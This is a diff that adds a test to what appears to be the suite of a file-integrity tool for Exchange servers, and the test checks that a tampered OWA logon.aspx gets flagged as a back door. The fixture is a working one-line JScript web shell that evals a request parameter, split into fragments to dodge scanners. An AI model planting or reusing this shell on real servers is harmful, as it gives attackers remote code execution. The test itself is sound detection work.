@@ -50,6 +50,19 @@ test('a table of hashes is a clean installation as well; a list grows and is nev
   expect(fs.readFileSync(foreign, 'utf8')).toBe('my notes\n');
 });
 
+test('a page as it was shipped, of another day or another server, clears no other bytes of that name', () => {
+  const page = `${exchangeFolder}/FrontEnd/HttpProxy/owa/auth/logon.aspx`;
+  const shell = ['<%@ Page Language="Jscript"%><%ev', 'al(Requ', 'est.Item["q"],"unsafe");%>'].join('');
+  writeTree(path.join(folder, 'two', 'a'), exchangeTree());
+  writeTree(path.join(folder, 'two', 'b'), exchangeTree({ [page]: shell }));
+  const { code, stdout } = runCli(['assess', 'two', '--baseline', 'own.txt', '--json', '-o', 'c2'], { cwd: folder });
+  const { inventory, findings } = JSON.parse(stdout) as Assessment;
+  expect(code).toBe(1);
+  expect(inventory[0]).toMatchObject({ shipped: 21, changed: 1 });
+  expect(inventory[0]!.odd).toMatchObject([{ standing: 'changed', sha256: sha256(shell) }]);
+  expect(findings.map(({ rule }) => rule)).toContain('inventory/changed-back-door');
+});
+
 test('a list that is none', () => {
   fs.writeFileSync(path.join(folder, 'wrong.txt'), 'afterpatch.baseline/1\nbuilds 15.1\n');
   const wrong = runCli(['assess', 'suspect', '--baseline', 'wrong.txt', '-o', 'c3'], { cwd: folder });
